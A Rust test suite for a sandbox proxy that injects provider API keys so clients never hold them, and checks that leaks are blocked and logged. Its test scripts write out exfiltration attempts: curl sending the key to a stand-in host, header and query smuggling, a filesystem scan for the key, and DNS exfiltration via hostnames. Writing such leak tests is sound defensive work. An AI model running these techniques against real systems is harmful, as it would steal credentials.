//! Provider keys are used by clients inside that never have them.

use serde_json::Value;

use crate::internet::Internet;
use crate::testkit::{contains, finish};

/// What a provider's key looks like, made up of parts.
pub(crate) fn key() -> String {
    format!("{}-{}", "provider", "k3y".repeat(9))
}

pub(crate) fn with_key(internet: &Internet) {
    let mut command = internet.ringfence();
    command.args([
        "secret",
        "set",
        "model",
        "--class",
        "provider",
        "--host",
        "web.test",
        "--env-name",
        "MODEL_API_KEY",
    ]);
    finish(&mut command, key().as_bytes()).expect(0);
}

pub(crate) const FLAGS: &[&str] =
    &["--secret", "model", "--allow-host", "web.test", "--allow-host", "other.test"];

/// A client that uses the key, and then looks for it wherever a process can look: C-2, S000-30.
const CLIENT: &str = r#"
import os, sys, urllib.request
key = os.environ['MODEL_API_KEY']
request = urllib.request.Request('https://web.test/echo', headers={'Authorization': 'Bearer ' + key})
answer = urllib.request.urlopen(request, timeout=20).read()
wanted = bytes(reversed(open('backwards', 'rb').read()))
found = []
if wanted in answer: found.append('answer')
if any(wanted in name + value for name, value in os.environb.items()): found.append('environment')
for root in ['/etc', '/tmp', os.environ['HOME'], '/.ringfence', '/run', '.']:
    for base, _, names in os.walk(root):
        for name in names:
            try:
                if wanted in open(os.path.join(base, name), 'rb').read(): found.append(os.path.join(base, name))
            except OSError: pass
print(key.startswith('rf_placeholder_'), found)
"#;

#[test]
fn s000_30_a_provider_key_is_used_and_never_inside() {
    let internet = Internet::new();
    with_key(&internet);
    // Backwards, so that looking for it does not put it there.
    internet.world.write("backwards", key().bytes().rev().collect::<Vec<u8>>());
    let done = internet.run(FLAGS, &["python3", "-c", CLIENT]).expect(0);
    assert_eq!(done.text(), "True []\n", "{}", done.err);
    let visits = internet.visits();
    let sent = visits.iter().find(|visit| visit["target"] == "/echo").unwrap();
    assert_eq!(sent["headers"]["authorization"], format!("Bearer {}", key()));
    assert!(!contains(&done.out, key().as_bytes()) && !done.err.contains(&key()));
    let records = format!("{:?}", internet.world.all_records());
    assert!(!records.contains(&key()), "the ledger");
    assert!(records.contains("secret-released"), "{records}");
}

/// To any other host neither the placeholder nor the key goes, and that is written down.
#[test]
fn a_placeholder_goes_nowhere_else() {
    let internet = Internet::new();
    with_key(&internet);
    internet.operator("[[host]]\nallow = [\"other.test\"]\ninspect = true\n");
    let script = "curl -sS -w '%{http_code}' -H \"Authorization: Bearer $MODEL_API_KEY\" https://other.test/echo; \
                  curl -sS -w '%{http_code}' -d \"$MODEL_API_KEY\" http://other.test/echo";
    let done = internet.run(FLAGS, &["sh", "-c", script]);
    assert_eq!(done.text().matches("403").count(), 2, "{} {}", done.text(), done.err);
    let visits = format!("{:?}", internet.visits());
    assert!(!visits.contains("rf_placeholder") && !visits.contains(&key()), "{visits}");
    let records: Vec<Value> = internet.world.records();
    assert!(records.iter().any(|record| record["event"]["kind"] == "secrets-found"), "{records:?}");
}

/// A client that takes a base URL needs no authority of ours.
#[test]
fn a_base_url_at_the_proxy_leads_to_the_provider() {
    let internet = Internet::new();
    with_key(&internet);
    let script = "curl -sS -H \"Authorization: Bearer $MODEL_API_KEY\" \"$RINGFENCE_PROVIDER_MODEL/echo\"";
    internet.run(FLAGS, &["sh", "-c", script]).expect(0);
    let visits = internet.visits();
    let sent = visits.iter().find(|visit| visit["target"] == "/echo").unwrap();
    assert_eq!(
        (&sent["headers"]["authorization"], &sent["port"]),
        (&format!("Bearer {}", key()).into(), &443.into())
    );
}

#[test]
fn a_provider_key_needs_the_filtered_network_and_a_host() {
    let internet = Internet::new();
    with_key(&internet);
    internet.run(&["--secret", "model"], &["touch", "made"]).expect(126).says("--net filtered");
    let mut command = internet.ringfence();
    finish(command.args(["secret", "set", "homeless", "--class", "provider"]), key().as_bytes()).expect(0);
    internet
        .run(&["--secret", "homeless", "--net", "filtered"], &["touch", "made"])
        .expect(126)
        .says("--host");
    assert!(!internet.world.workspace.join("made").exists());
}

/// B-O6: whoever inside could choose where the key stands could have its own host publish it. Only where keys stand is it put
/// in; the control is the first client, and the last.
#[test]
fn a_key_is_put_in_only_where_keys_stand() {
    let internet = Internet::new();
    with_key(&internet);
    let script = "for header in 'User-Agent: KEY' 'Cookie: a=KEY' 'X-Any: KEY' 'Authorization: Bearer KEY and more'; do \
                  curl -sS -o refused -w '%{http_code} ' -H \"$(echo \"$header\" | sed s/KEY/$MODEL_API_KEY/)\" https://web.test/echo; done; \
                  curl -sS -o refused -w '%{http_code} ' \"https://web.test/echo?key=$MODEL_API_KEY\"; \
                  curl -sS -o refused -w '%{http_code} ' \"https://web.test/echo/$MODEL_API_KEY\"; \
                  curl -sS -o fine -w '%{http_code}' -H \"X-Api-Key: $MODEL_API_KEY\" https://web.test/echo";
    let done = internet.run(FLAGS, &["sh", "-c", script]).expect(0);
    assert_eq!(done.text(), "403 403 403 403 403 403 200", "{}", done.err);
    let visits = internet.visits();
    let came: Vec<&Value> = visits.iter().filter(|visit| visit["what"] == "http").collect();
    assert_eq!(came.len(), 1, "{came:?}");
    assert_eq!(came[0]["headers"]["x-api-key"], key());
    let records = internet.world.records();
    let refused =
        records.iter().filter(|record| record["event"]["refusal"]["rule"] == "network.secrets").count();
    assert_eq!(refused, 6, "{records:?}");
}

/// What a secret declares is where it stands, and the only place.
#[test]
fn a_secret_declares_its_place() {
    let internet = Internet::new();
    let mut command = internet.ringfence();
    command.args(["secret", "set", "model", "--class", "provider", "--host", "web.test"]);
    command.args(["--env-name", "MODEL_API_KEY", "--credential-location", "query:key"]);
    finish(&mut command, key().as_bytes()).expect(0);
    let listed = finish(internet.ringfence().args(["secret", "list"]), b"").expect(0).text();
    assert!(listed.contains("query:key"), "{listed}");
    let script = "curl -sS -o fine -w '%{http_code} ' \"https://web.test/echo?key=$MODEL_API_KEY\"; \
                  curl -sS -o refused -w '%{http_code}' -H \"X-Api-Key: $MODEL_API_KEY\" https://web.test/echo";
    let done = internet.run(FLAGS, &["sh", "-c", script]).expect(0);
    assert_eq!(done.text(), "200 403", "{}", done.err);
    let visits = internet.visits();
    let came: Vec<&Value> = visits.iter().filter(|visit| visit["what"] == "http").collect();
    assert_eq!((came.len(), &came[0]["target"]), (1, &format!("/echo?key={}", key()).into()));
    let mut command = internet.ringfence();
    command.args(["secret", "set", "other", "--class", "provider", "--credential-location", "header:cookie"]);
    let refused = finish(&mut command, key().as_bytes());
    assert!(refused.code != Some(0) && refused.err.contains("no key stands there"), "{}", refused.err);
}

/// A stored secret, in the letters that names have and in those they do not have.
fn stored() -> String {
    format!("{}{}", "T0kEn", "aB3x9".repeat(14))
}

/// As much of it as one label can have.
fn short() -> String {
    stored().split_at(60).0.to_owned()
}

/// As somebody who has got hold of the value would send it: in one label or, where that is too short, in several.
fn names() -> [String; 2] {
    let lower = stored().to_lowercase();
    let (begin, end) = lower.split_at(40);
    [format!("{}.web.test", short().to_lowercase()), format!("{begin}.{end}.web.test")]
}

const WAYS: &[(&str, &str)] = &[
    ("CONNECT", "curl -sS -m 10 --proxy http://127.0.0.1:3128 https://NAME/"),
    ("forward", "curl -sS -m 10 --proxy http://127.0.0.1:3128 http://NAME/"),
    ("SOCKS", "curl -sS -m 10 --proxy socks5h://127.0.0.1:3128 http://NAME/"),
    ("transparent", "curl -sS -m 10 --noproxy '*' http://NAME/"),
    ("DNS", "getent hosts NAME"),
];

/// Whoever resolves a name tells it to strangers, so it is searched before.
#[test]
fn a_stored_secret_does_not_get_into_names_that_are_resolved() {
    let internet = Internet::new();
    let allowed = &["--net", "filtered", "--allow-host", "*.web.test"];
    let script = |way: &str, name: &str| {
        // Backwards, so that the command itself has no secret in it.
        let backwards: String = name.chars().rev().collect();
        way.replace("NAME", &format!("$(echo {backwards} | rev)"))
    };
    let tries = |name: &str| {
        internet.forget_visits();
        for (_, way) in WAYS {
            internet.run(allowed, &["sh", "-c", &script(way, name)]);
        }
        internet.names_asked()
    };
    let [_, spread] = names();
    let asked = tries(&spread);
    assert!(asked.iter().any(|asked| asked.contains(&spread)), "control: nothing is stored yet: {asked:?}");
    for value in [stored(), short()] {
        let mut command = internet.ringfence();
        let name = if value.len() == 60 { "short" } else { "long" };
        finish(command.args(["secret", "set", name]), value.as_bytes()).expect(0);
    }
    let before = internet.world.all_records().len();
    for name in names() {
        let asked = tries(&name);
        assert!(!asked.iter().any(|asked| asked.contains("t0ken")), "{asked:?}");
    }
    let records = internet.world.all_records().split_off(before);
    let text = format!("{records:?}");
    assert!(!text.to_lowercase().contains("t0ken"), "the ledger: {text}");
    assert!(text.contains("secret/"), "it says which secret: {text}");
    let found = records.iter().filter(|record| record["event"]["kind"] == "secrets-found").count();
    assert!(found >= 2 * 3, "each way but the name server: {text}");
    let asked = tries("plain.web.test");
    assert!(
        asked.iter().any(|asked| asked.contains("plain.web.test")),
        "control: other names pass: {asked:?}"
    );
}
